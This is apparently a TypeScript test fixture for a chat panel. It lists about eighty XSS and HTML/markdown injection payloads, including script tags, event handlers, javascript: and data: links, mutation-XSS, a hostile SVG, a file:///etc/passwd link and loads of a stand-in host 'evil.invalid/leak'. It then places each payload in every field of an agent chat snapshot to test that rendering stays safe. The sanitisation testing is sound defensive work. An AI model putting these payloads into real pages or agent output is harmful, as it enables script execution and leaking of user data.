import type { ChatSnapshot } from '../../../src/chat/messages.ts';
import type { Part } from '../../../src/protocol/part.ts';
import { snapshotOf, Story, storyStart, task } from './story.ts';

/** Runs in the page when an attack gets through. */
const hit = 'executions.push(1)';
const out = 'http://evil.invalid/leak';

/** What an agent could write to run a script, load something, or lead away: one technique each. */
export const payloads: readonly string[] = [
  `<script>${hit}</script>`,
  `<script src="${out}"></script>`,
  `<ScRiPt >${hit}</sCrIpT>`,
  `<img src=x onerror="${hit}">`,
  `<img src="${out}">`,
  `<img src=x:x onerror=${hit} //`,
  `<svg onload="${hit}"></svg>`,
  `<svg><script>${hit}</script></svg>`,
  `<svg><animate onbegin="${hit}" attributeName=x dur=1s></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${hit}</script></svg>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${hit}&gt;">`,
  `<iframe src="javascript:parent.${hit}"></iframe>`,
  `<iframe srcdoc="<script>parent.${hit}</script>"></iframe>`,
  `<iframe src="${out}"></iframe>`,
  `<object data="${out}"></object>`,
  `<embed src="${out}">`,
  `<meta http-equiv="refresh" content="0;url=${out}">`,
  `<base href="${out}/">`,
  `<link rel="stylesheet" href="${out}">`,
  `<link rel="prefetch" href="${out}">`,
  `<style>@import url(${out}); body { background: url(${out}) }</style>`,
  `<div style="background: url(${out})" onmouseover="${hit}">hover</div>`,
  `<form action="${out}"><button>go</button></form><form id=f></form><button form=f formaction="javascript:${hit}">x</button>`,
  `<input autofocus onfocus="${hit}">`,
  `<details open ontoggle="${hit}"><summary>x</summary></details>`,
  `<video src="${out}" onerror="${hit}"></video><audio src="${out}"></audio>`,
  `<video poster="${out}"><source onerror="${hit}" src=x></video>`,
  `<body onload="${hit}"><marquee onstart="${hit}">x</marquee>`,
  `<a href="javascript:${hit}">click</a>`,
  `<a href="${out}" target=_top ping="${out}">click</a>`,
  `<a href="data:text/html,<script>${hit}</script>">click</a>`,
  `<template><img src=x onerror="${hit}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${hit}>">`,
  `<textarea></textarea><img src=x onerror="${hit}">`,
  `<select><option></select><img src=x onerror="${hit}">`,
  `</div></article></main><img src=x onerror="${hit}">`,
  `--><img src=x onerror="${hit}"><!--`,
  `"><img src=x onerror="${hit}">`,
  `' onmouseover='${hit}' x='`,
  `" autofocus onfocus="${hit}" x="`,
  `[click](javascript:${hit})`,
  `[click](JaVaScRiPt&#58;${hit})`,
  `[click](java\tscript:${hit})`,
  `[click](&#x6A;avascript:${hit})`,
  `[click](data:text/html;base64,PHNjcmlwdD5leGVjdXRpb25zLnB1c2goMSk8L3NjcmlwdD4=)`,
  `[click](vbscript:${hit})`,
  `[click](command:workbench.action.terminal.new)`,
  `[click](file:///etc/passwd)`,
  `[click](//evil.invalid/leak)`,
  `[click](/leak)`,
  `[click](${out} "x" onmouseover="${hit}")`,
  `[click](<javascript:${hit}>)`,
  `[a]: javascript:${hit}\n\n[a]`,
  `<javascript:${hit}>`,
  `![x](${out})`,
  `![x](javascript:${hit})`,
  `![x](x" onerror="${hit})`,
  `![<img src=x onerror=${hit}>](${out})`,
  `[![x](${out})](${out})`,
  `[<img src=x onerror=${hit}>](${out})`,
  `\`\`\`html onmouseover="${hit}"\n<img src=x onerror="${hit}">\n\`\`\``,
  `\`\`\`"><img/src=x/onerror="${hit}">\ncode\n\`\`\``,
  `\`\`\`mermaid\ngraph LR; A["<img src=x onerror=${hit}>"]\n\`\`\``,
  `\`<img src=x onerror="${hit}">\``,
  `| <img src=x onerror="${hit}"> | b |\n| --- | --- |\n| <script>${hit}</script> | ![x](${out}) |`,
  `# <img src=x onerror="${hit}">`,
  `- [ ] <img src=x onerror="${hit}">\n- <svg onload="${hit}">`,
  `> <img src=x onerror="${hit}">`,
  `&lt;img src=x onerror="${hit}"&gt;`,
  `&amp;lt;script&amp;gt;${hit}&amp;lt;/script&amp;gt;`,
  `\u0000<scr\u0000ipt>${hit}</script>`,
  `<img\u2028src=x\u2029onerror="${hit}">`,
  `\u202e<img src=x onerror="${hit}">`,
  `{{constructor.constructor('${hit}')()}}`,
  `\${${hit}}`,
  `javascript:${hit}`,
  out,
  `www.evil.invalid/leak and leak@evil.invalid`,
];

const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="${hit}"><script>${hit}; parent.${hit}</script>`
  + `<image xlink:href="${out}"/><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="${out}" onerror="${hit}"/></foreignObject><style>@import url(${out});</style></svg>`;

const base64 = (text: string): string => Buffer.from(text).toString('base64');

/** Every place of the panel that shows something an agent, a card or an answer can write, with this text in it. */
export function everywhere(text: string): ChatSnapshot {
  const named = { mediaType: text, filename: text };
  const parts: Part[] = [
    { text }, { text, ...named }, { text, mediaType: 'text/html' }, { text, mediaType: 'application/json' }, { raw: base64(text), ...named }, { raw: text, ...named }, { raw: base64(svg), mediaType: 'image/svg+xml', filename: text },
    { url: text, ...named }, { url: `https://example.org/${text}`, ...named }, { data: { [text]: text, list: [text] }, ...named }, { data: text },
  ];
  const sentence = { template: '{0} and {1}', args: [text, text] };
  const story = new Story()
    .user(0, text, { taskId: text })
    .status(1, text, 'TASK_STATE_WORKING', text)
    .status(2, text, 'TASK_STATE_WORKING', `${text}\n\n${text}`)
    .agent(3, parts, text)
    .artifact(4, 't', parts, { name: text, description: text })
    .artifact(5, 't', [{ text: `Words before.\n\n${text}\n\nand after` }], { name: text, complete: false })
    .status(6, 't', 'TASK_STATE_INPUT_REQUIRED', text)
    .status(7, 't', 'TASK_STATE_FAILED', text);
  story.entries.push(
    { kind: 'problem', seq: 100, at: storyStart, taskId: text, exchangeId: text, code: text, sentence, nextStep: sentence, details: text },
    { kind: 'gap', seq: 101, at: storyStart, taskId: text, reason: sentence },
    { kind: 'status', seq: 102, at: storyStart, state: text as 'TASK_STATE_WORKING', taskId: 'u' },
  );
  return snapshotOf(story.entries, {
    agent: text, title: text, description: text, interface: text, contextId: text, waitingTaskId: 't', examples: [text],
    tasks: [task('t', 'TASK_STATE_INPUT_REQUIRED', text, 1), task(text, 'TASK_STATE_WORKING', text, 0)],
  });
}

/** The same text where nothing has been written yet. */
export function everywhereEmpty(text: string): ChatSnapshot {
  return snapshotOf([], { agent: text, title: text, description: text, interface: text, examples: [text, text] });
}
